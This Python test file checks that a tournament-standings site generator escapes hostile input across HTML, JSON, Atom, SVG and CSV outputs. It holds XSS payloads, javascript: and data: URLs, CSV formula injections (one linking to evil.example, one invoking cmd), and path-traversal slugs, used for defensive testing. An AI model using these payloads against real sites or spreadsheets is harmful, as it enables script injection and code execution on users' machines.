"""Hostile text in every input field never becomes markup in the site (issue 9.3).

One events tree holds an event of every format whose names, factions, clubs, countries,
event.toml texts, event.md, army lists, season.toml and site.toml carry script tags,
event-handler attributes, ``javascript:`` links, iframes, SVG with script, CSS and
spreadsheet formulas. After a real build, every output file is scanned: HTML is parsed
and may hold no tag, attribute, URL or style from the input; JSON must parse; Atom
feeds and SVG must parse as XML without script; CSV cells carrying input must not start
with a formula character.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from standgen.cli import main
from standgen.load import load_tree
from standgen.load.files import SLUG
from tests.test_bad_inputs import BASE

MARK = "xss"
PAYLOADS = [
    '<script>alert("xss1")</script>',
    '<img src=x onerror=alert("xss2")>',
    '"><svg onload=alert("xss3")>',
    "'><iframe src=javascript:alert('xss4')></iframe>",
    "<a href=\"javascript:alert('xss5')\">x</a>",
    '<svg><script>alert("xss6")</script></svg>',
    '<style>body{background:url("javascript:alert(xss7)")}</style>',
    '" style="background:url(xss8)" x="',
    '</script><script>alert("xss9")</script>',
    '=HYPERLINK("http://evil.example/xss10","click")',
    "+1+cmd|'/C calc'!A0 xss11",
    "-2+3 xss12",
    "@SUM(1+1) xss13",
    "{{ 7*7 }} {% raw %}xss14",
    "]]></title><script>xss15</script>",
    "<!-- xss16 --> &lt;b&gt;xss17&amp;",
    "javascript:alert('xss18')",
    "a\u2028</script>xss19\u2029b",
]
MARKDOWN = "\n\n".join([
    "# Welcome",
    *PAYLOADS[:9],
    "[click me](javascript:alert('xss20'))",
    "[data](data:text/html;base64,PHNjcmlwdD54c3M8L3NjcmlwdD4=)",
    "![pic](javascript:alert('xss21'))",
    '<a href=" JaVaScRiPt:alert(\'xss22\')">spaced</a>',
    '<div style="position:fixed;background:url(xss23)">styled</div>',
    '<form action="https://evil.example/xss24"><input name=q onfocus=alert(1) autofocus></form>',
    '<object data="javascript:alert(\'xss25\')"></object><embed src="xss26.swf">',
    '<math><mi xlink:href="javascript:alert(\'xss27\')">m</mi></math>',
    '<base href="https://evil.example/xss28/"><meta http-equiv="refresh" content="0;xss29">',
    '<svg><foreignObject><iframe src="xss30"></iframe></foreignObject></svg>',
    "<details open ontoggle=alert('xss31')>",
])
# tags the site never writes itself (its own <input> and <button> carry no handlers)
DANGEROUS_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base", "form",
                  "foreignobject", "textarea", "math"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster",
             "background", "content"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue()


def hostile_players(base: str) -> str:
    """Return ``base`` (a players.csv) with hostile name, faction, club and country."""
    rows = list(csv.reader(io.StringIO(base)))
    header = rows[0] + [c for c in ("faction", "club", "country") if c not in rows[0]]
    body = []
    for k, row in enumerate(rows[1:]):
        cells = dict(zip(rows[0], row, strict=True))
        for j, column in enumerate(("name", "faction", "club", "country")):
            cells[column] = PAYLOADS[(k * 4 + j) % len(PAYLOADS)]
        body.append([cells.get(c, "") for c in header])
    return csv_text(header, body)


def toml_string(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid TOML basic string


def hostile_tree(root: Path) -> None:
    files = dict(BASE)
    for event in ("ev", "ow", "go", "sw", "dip"):
        files[f"{event}/players.csv"] = hostile_players(files[f"{event}/players.csv"])
        files[f"{event}/event.md"] = MARKDOWN
        toml = files[f"{event}/event.toml"].replace(
            'name = "', f"name = {toml_string(PAYLOADS[0] + PAYLOADS[1])}\n# ")
        toml += (f"location = {toml_string(PAYLOADS[2])}\n"
                 f"organiser = {toml_string(PAYLOADS[5])}\n"
                 f"url = {toml_string('https://example.com/' + PAYLOADS[2] + PAYLOADS[7])}\n"
                 f"scenarios = [{toml_string(PAYLOADS[3])}, {toml_string(PAYLOADS[8])}]\n")
        files[f"{event}/event.toml"] = toml
    files["ev/lists/a.md"] = MARKDOWN
    files["ow/lists/b.md"] = MARKDOWN
    files["season.toml"] = (f"name = {toml_string(PAYLOADS[14] + PAYLOADS[0])}\n"
                            f"description = {toml_string(MARKDOWN)}\n")
    files["site.toml"] = f"title = {toml_string(PAYLOADS[1] + PAYLOADS[14])}\n"
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    root = base / "events"
    hostile_tree(root)
    result = CliRunner().invoke(main, ["build", str(root), "-o", str(base / "out")])
    assert result.exit_code == 0, result.output
    return base / "out"


class Scanner(HTMLParser):
    """Records every markup construct that could run or restyle from input."""

    def __init__(self, where: str) -> None:
        super().__init__(convert_charrefs=True)
        self.where = where
        self.found: list[str] = []
        self.stack: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and any(k == "http-equiv" for k, _ in attrs):
            self.found.append("<meta http-equiv>")
        if tag == "script":
            self.scripts += 1
            src = dict(attrs).get("src") or ""
            if MARK in src or "//" in src:
                self.found.append(f"<script src={src!r}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"{name}= on <{tag}>")
            if name in URL_ATTRS and re.sub(r"\s", "", value).lower().startswith(BAD_SCHEMES):
                self.found.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and MARK in value:
                self.found.append(f"style={value!r} on <{tag}>")
        if tag not in ("meta", "link", "img", "br", "hr", "input", "source", "col", "wbr"):
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        inside = self.stack[-1] if self.stack else ""
        if inside == "style" and MARK in data:
            self.found.append(f"<style> holding {data[:60]!r}")
        if inside == "script" and (MARK in data or "<!--" in data or "<script" in data.lower()):
            self.found.append(f"<script> holding {data[:60]!r}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"comment from input {data[:60]!r}")


def scan_html(text: str, where: str) -> list[str]:
    scanner = Scanner(where)
    scanner.feed(text)
    scanner.close()
    return [f"{where}: {f}" for f in scanner.found]


def scan_xml(data: bytes, where: str) -> list[str]:
    """Return what is wrong in a feed or SVG: script, handlers, bad URLs, HTML payloads."""
    found: list[str] = []
    root = ET.fromstring(data)  # must be well-formed
    for element in root.iter():
        local = element.tag.rsplit("}", 1)[-1].lower()
        if local in ("script", "foreignobject", "iframe"):
            found.append(f"{where}: <{local}>")
        for name, value in element.attrib.items():
            key = name.rsplit("}", 1)[-1].lower()
            if key.startswith("on"):
                found.append(f"{where}: {key}= on <{local}>")
            if key == "href" and value.strip().lower().startswith(BAD_SCHEMES):
                found.append(f"{where}: href={value!r}")
        if element.attrib.get("type") == "html" and element.text:
            found.extend(scan_html(element.text, f"{where} <{local} type=html>"))
    return found


def scan_csv(text: str, where: str) -> list[str]:
    found = []
    for line, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for cell in row:
            if (MARK in cell or "evil" in cell) and cell.startswith(("=", "+", "-", "@", "\t",
                                                                      "\r")):
                found.append(f"{where}:{line}: formula cell {cell[:40]!r}")
    return found


def scan_site(out: Path) -> tuple[list[str], dict[str, int]]:
    """Return every finding and how many files of each kind were scanned."""
    found: list[str] = []
    kinds: dict[str, int] = {}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        where = path.relative_to(out).as_posix()
        kind = path.suffix.lower()
        kinds[kind] = kinds.get(kind, 0) + 1
        data = path.read_bytes()
        if kind == ".html":
            found.extend(scan_html(data.decode(), where))
        elif kind == ".json":
            json.loads(data)
        elif kind in (".xml", ".atom", ".svg"):
            found.extend(scan_xml(data, where))
        elif kind == ".csv":
            found.extend(scan_csv(data.decode(), where))
        elif kind in (".js", ".css", ".txt", ".webmanifest", ".ics") and MARK.encode() in data:
            found.append(f"{where}: input text in a {kind} file")
    return found, kinds


def test_hostile_input_loads_unchanged(tmp_path: Path) -> None:
    """The payloads are valid input (not refused), so the scan below is meaningful."""
    hostile_tree(tmp_path / "events")
    tree = load_tree(tmp_path / "events")
    assert len(tree.events) == 5
    names = {p.name for e in tree.events for p in e.players}
    assert PAYLOADS[0] in names and any(e.description == MARKDOWN for e in tree.events)


def test_no_input_derived_markup_anywhere_in_the_site(site: Path) -> None:
    found, kinds = scan_site(site)
    assert kinds.get(".html", 0) > 50 and kinds.get(".json", 0) > 10 and kinds.get(".csv", 0)
    assert found == []


def test_payload_text_is_shown_as_text(site: Path) -> None:
    """Escaped, not dropped: the player's name reads as typed on their page."""
    page = (site / "ev/players/a/index.html").read_text()
    assert "&lt;script&gt;alert(" in page
    assert "<script>alert(" not in page


def test_feeds_parse_and_hold_only_escaped_html(site: Path) -> None:
    feeds = [p for p in site.rglob("*") if p.suffix in (".xml", ".atom")]
    assert feeds, "the site publishes an Atom feed"
    for feed in feeds:
        assert scan_xml(feed.read_bytes(), feed.name) == []


def test_json_embedded_in_pages_cannot_close_its_script(site: Path) -> None:
    for page in site.rglob("*.html"):
        text = page.read_text()
        for block in re.findall(r"<script[^>]*>(.*?)</script>", text, flags=re.S | re.I):
            assert MARK not in block or "<" not in block.replace("\\u003c", ""), page


def test_csv_downloads_neutralise_formulas(site: Path) -> None:
    cells = [cell for path in site.rglob("*.csv")
             for row in csv.reader(io.StringIO(path.read_text(), newline="")) for cell in row]
    formulas = [c for c in cells if MARK in c or "evil" in c]
    assert formulas, "the CSV downloads carry the hostile names"
    assert any(c.startswith("'=HYPERLINK") for c in formulas)
    assert any(c.startswith("'@SUM") for c in formulas)
    assert not [c for c in formulas if c.startswith(("=", "+", "-", "@"))]


def test_scanner_catches_each_kind_of_markup() -> None:
    """The scan can fail: each payload, unescaped, is found."""
    for payload in PAYLOADS[:9]:
        assert scan_html(f"<p title=\"{payload}\">{payload}</p>", "x"), payload
    assert scan_csv('name\n"=1+1 xss"\n', "x.csv")
    feed = b'<feed><entry><content type="html">&lt;img src=x onerror=alert(1)&gt;</content>' \
           b"</entry></feed>"
    assert scan_xml(feed, "f.xml")


@pytest.mark.parametrize("text", [
    "..", "../etc", "a/b", "a\\b", "\u0430nna", "anna\u200b", "\uff41nna", "ANNA", "-anna",
    "anna.k", "anna k", "",
])
def test_ids_and_slugs_refuse_dots_slashes_and_lookalikes(text: str) -> None:
    assert not SLUG.match(text)
